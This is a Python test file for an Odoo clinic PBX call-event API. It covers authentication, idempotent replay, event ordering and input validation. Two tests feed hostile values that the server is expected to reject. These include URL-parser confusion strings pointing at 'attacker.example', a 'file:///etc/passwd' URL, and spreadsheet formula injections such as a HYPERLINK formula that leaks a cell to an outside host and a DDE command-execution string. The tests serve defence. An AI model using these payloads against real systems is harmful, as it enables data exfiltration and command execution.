import json

from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from .common import EventApiMixin, cdr_event, make_connection

T0 = "2026-11-05T09:17:30+03:00"


@tagged("post_install", "-at_install")
class TestEventApi(EventApiMixin, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.connection, cls.token = make_connection(cls.env)
        cls.other_company = cls.env["res.company"].create({"name": "Second Clinic"})
        cls.other_connection, cls.other_token = make_connection(
            cls.env, name="Other PBX", company=cls.other_company
        )
        cls.Call = cls.env["pbx.call"]

    def calls(self, connection=None):
        return self.Call.search(
            [("connection_id", "=", (connection or self.connection).id)]
        )

    def test_cdr_creates_one_call_with_the_product_columns(self):
        response = self.post_events([cdr_event("c1", T0)], self.token)
        self.assertEqual(response.status_code, 200, response.text)
        self.assertEqual(response.json(), {"accepted": 1, "duplicates": 0})
        call = self.calls()
        self.assertEqual(len(call), 1)
        self.assertEqual(str(call.start), "2026-11-05 06:17:30")
        self.assertEqual(call.direction, "incoming")
        self.assertEqual(call.disposition, "answered")
        self.assertEqual(call.src, "+7 916 123-45-67")
        self.assertEqual(call.external_key, "+79161234567")
        self.assertEqual(
            (call.talk_seconds, call.wait_seconds, call.total_seconds), (60, 5, 65)
        )
        self.assertEqual(call.state, "done")

    def test_replay_changes_nothing(self):
        events = [
            cdr_event("c1", T0),
            cdr_event("c2", T0, disposition="no_answer", talk_seconds=0),
        ]
        self.assertEqual(
            self.post_events(events, self.token).json(),
            {"accepted": 2, "duplicates": 0},
        )
        before = self.calls().read(["write_date", "disposition", "talk_seconds"])
        again = self.post_events(events, self.token)
        self.assertEqual(again.status_code, 200)
        self.assertEqual(again.json(), {"accepted": 0, "duplicates": 2})
        self.assertEqual(
            self.calls().read(["write_date", "disposition", "talk_seconds"]), before
        )

    def test_live_events_in_any_order_end_in_the_same_call(self):
        ringing = {
            "type": "ringing",
            "call_id": "live",
            "time": "2026-11-05T09:00:00+03:00",
            "direction": "incoming",
            "from": "89161234567",
            "to": "74951234500",
            "extension": "101",
        }
        answered = {
            "type": "answered",
            "call_id": "live",
            "time": "2026-11-05T09:00:12+03:00",
            "extension": "101",
        }
        hangup = {
            "type": "hangup",
            "call_id": "live",
            "time": "2026-11-05T09:02:12+03:00",
            "disposition": "answered",
            "talk_seconds": 120,
            "wait_seconds": 12,
        }
        for order in ([hangup], [answered], [ringing]):
            self.assertEqual(self.post_events(order, self.token).status_code, 200)
        call = self.calls()
        self.assertEqual(len(call), 1)
        self.assertEqual(call.state, "done")
        self.assertEqual(call.disposition, "answered")
        self.assertEqual((call.wait_seconds, call.talk_seconds), (12, 120))
        self.assertEqual(str(call.start), "2026-11-05 06:00:00")
        self.assertEqual(call.answered_extension, "101")

    @mute_logger("odoo.http")
    def test_wrong_or_missing_token_is_401_and_writes_nothing(self):
        for token in (None, "nope", self.token[:-1] + "x"):
            response = self.post_events([cdr_event("c1", T0)], token)
            self.assertEqual(response.status_code, 401)
        self.assertFalse(self.calls())

    @mute_logger("odoo.addons.clinic_pbx.controllers.events")
    def test_a_new_token_or_an_archived_pbx_is_refused_at_once(self):
        self.assertEqual(self.post_events([], self.token).status_code, 200)
        action = self.connection.action_generate_token()
        new_token = action["context"]["default_token"]
        self.assertEqual(self.post_events([], self.token).status_code, 401)
        self.assertEqual(self.post_events([], new_token).status_code, 200)
        self.connection.active = False
        self.assertEqual(self.post_events([], new_token).status_code, 401)
        self.connection.active = True
        self.assertEqual(self.post_events([], new_token).status_code, 200)

    def test_one_invalid_event_rejects_the_batch(self):
        events = [cdr_event("ok", T0), cdr_event("bad", "yesterday")]
        response = self.post_events(events, self.token)
        self.assertEqual(response.status_code, 400)
        self.assertEqual(response.json()["details"][0]["index"], 1)
        self.assertEqual(response.json()["details"][0]["field"], "time")
        self.assertFalse(self.calls())

    def test_far_years_and_blank_extensions_are_400_not_500(self):
        for field, bad in (
            ("time", "0001-01-01T00:00:00+01:00"),
            ("time", "9999-12-31T23:00:00Z"),
            ("rang_extensions", ["101", "  "]),
        ):
            with self.subTest(bad=bad):
                event = {**cdr_event("odd", T0), field: bad}
                response = self.post_events([event], self.token)
                self.assertEqual(response.status_code, 400)
                self.assertEqual(response.json()["details"][0]["field"], field)
        self.assertFalse(self.calls())

    def test_recording_urls_that_parsers_read_differently_are_400(self):
        # Such a URL can name one server to a check and another to the
        # request that follows it (with the recordings password).
        for url in (
            "http://attacker.example\\@pbx.example/monitor/x.wav",
            "http://user:pass@pbx.example/monitor/x.wav",
            "http://attacker.example @pbx.example/x.wav",
            "http://pbx.example/monitor/x.wav\tlocal",
            "http://pbx.example\x00.attacker.example/x.wav",
            "http://pbx.example:port/x.wav",
            "file:///etc/passwd",
        ):
            with self.subTest(url=url):
                event = cdr_event("odd-url", T0, recording_url=url)
                response = self.post_events([event], self.token)
                self.assertEqual(response.status_code, 400)
                self.assertEqual(
                    response.json()["details"][0]["field"], "recording_url"
                )
        self.assertFalse(self.calls())

    def test_control_characters_and_formulas_are_400(self):
        # A NUL cannot be stored (it was a 500, and a PBX retrying the batch
        # stalled on it), and a caller number such as =1+1 became a formula
        # in the Call Log's spreadsheet export.
        hostile = [
            ("call_id", "a\u0000"),
            ("from", "\u0000"),
            ("from", "=1+1"),
            ("from", '=HYPERLINK("http://x.example/?"&A1,"call")'),
            ("from", "+7 916\u202e123"),
            ("to", "101\n=cmd|' /C calc'!A0"),
            ("did", "@SUM(1)"),
            ("extension", "10\u00001"),
            ("rang_extensions", ["101", "10\u001b2"]),
            ("recording_url", "https://pbx.example/x\u0000.wav"),
        ]
        for field, value in hostile:
            with self.subTest(field=field, value=value):
                event = {**cdr_event("hostile", T0), field: value}
                response = self.post_events([event], self.token)
                self.assertEqual(response.status_code, 400)
                self.assertEqual(response.json()["details"][0]["field"], field)
        self.assertFalse(self.calls())

    def test_numbers_in_any_human_format_and_dialplan_words_pass(self):
        values = [
            {"from": "+7 (916) 123-45-67", "to": "8.495.123.45.00", "did": "*97#"},
            {"from": "anonymous", "to": "s"},
            {"from": "101", "to": "vmu101", "direction": "internal"},
        ]
        events = [cdr_event(f"human-{n}", T0, **v) for n, v in enumerate(values)]
        response = self.post_events(events, self.token)
        self.assertEqual(response.status_code, 200, response.text)
        self.assertEqual(
            sorted(self.calls().mapped("src")),
            ["+7 (916) 123-45-67", "101", "anonymous"],
        )

    def test_not_json_is_415_and_bad_json_is_400(self):
        self.assertEqual(
            self.post_events([], self.token, content_type="text/plain").status_code, 415
        )
        self.assertEqual(
            self.post_events(None, self.token, raw="{nope").status_code, 400
        )

    def test_too_large_body_is_413(self):
        huge = json.dumps({"events": [], "padding": "x" * (2 * 1024 * 1024)})
        self.assertEqual(self.post_events(None, self.token, raw=huge).status_code, 413)

    def test_a_token_writes_only_its_own_connection_calls(self):
        self.post_events([cdr_event("same-id", T0)], self.token)
        self.post_events(
            [cdr_event("same-id", T0, disposition="busy", talk_seconds=0)],
            self.other_token,
        )
        mine, theirs = self.calls(), self.calls(self.other_connection)
        self.assertEqual(mine.disposition, "answered")
        self.assertEqual(theirs.disposition, "busy")
        self.assertEqual(theirs.company_id, self.other_company)

    def test_answered_after_hangup_and_cdr_after_live_events(self):
        base = {"call_id": "late", "time": "2026-11-05T10:00:00+03:00"}
        ringing = dict(
            base,
            type="ringing",
            direction="incoming",
            **{"from": "+79160001111", "to": "74951234500"},
            extension="101",
        )
        hangup = dict(
            base,
            type="hangup",
            time="2026-11-05T10:01:40+03:00",
            disposition="answered",
            talk_seconds=90,
            wait_seconds=10,
        )
        answered = dict(
            base, type="answered", time="2026-11-05T10:00:10+03:00", extension="101"
        )
        self.post_events([ringing, hangup], self.token)
        self.post_events([answered], self.token)
        call = self.calls()
        self.assertEqual((call.state, call.disposition), ("done", "answered"))
        self.assertEqual((call.wait_seconds, call.talk_seconds), (10, 90))
        self.assertEqual(call.answered_extension, "101")
        # the PBX's CDR of the same call arrives last and is authoritative
        cdr = cdr_event(
            "late",
            "2026-11-05T10:00:00+03:00",
            extension="102",
            talk_seconds=95,
            wait_seconds=9,
            **{"from": "+79160001111"},
        )
        self.assertEqual(self.post_events([cdr], self.token).json()["accepted"], 1)
        self.assertEqual(len(self.calls()), 1)
        self.assertEqual((call.wait_seconds, call.talk_seconds), (9, 95))
        self.assertEqual(call.answered_extension, "102")

    def test_a_ringing_call_is_live_until_it_ends(self):
        ringing = {
            "type": "ringing",
            "call_id": "ring",
            "direction": "incoming",
            "time": "2026-11-05T11:00:00+03:00",
            "from": "+79160002222",
            "to": "74951234500",
            "extension": "101",
        }
        self.post_events([ringing], self.token)
        call = self.calls()
        self.assertEqual(call.state, "ringing")
        self.assertFalse(call.disposition)
        self.assertFalse(call.missed)
        hangup = {
            "type": "hangup",
            "call_id": "ring",
            "time": "2026-11-05T11:00:30+03:00",
            "disposition": "no_answer",
            "talk_seconds": 0,
            "wait_seconds": 30,
        }
        self.post_events([hangup], self.token)
        self.assertEqual(
            (call.state, call.disposition, call.missed), ("done", "no_answer", True)
        )

    def test_unknown_keys_are_ignored(self):
        event = cdr_event("extra", T0, relay="mango", nested={"a": [1, 2]}, leg_id="L1")
        response = self.post_events([event], self.token)
        self.assertEqual(response.status_code, 200)
        self.assertEqual(len(self.calls()), 1)

    def test_events_of_many_calls_in_one_batch(self):
        events = [
            cdr_event(f"many-{n}", T0, **{"from": f"+7916000{n:04d}"})
            for n in range(300)
        ]
        self.assertEqual(self.post_events(events, self.token).json()["accepted"], 300)
        self.assertEqual(len(self.calls()), 300)
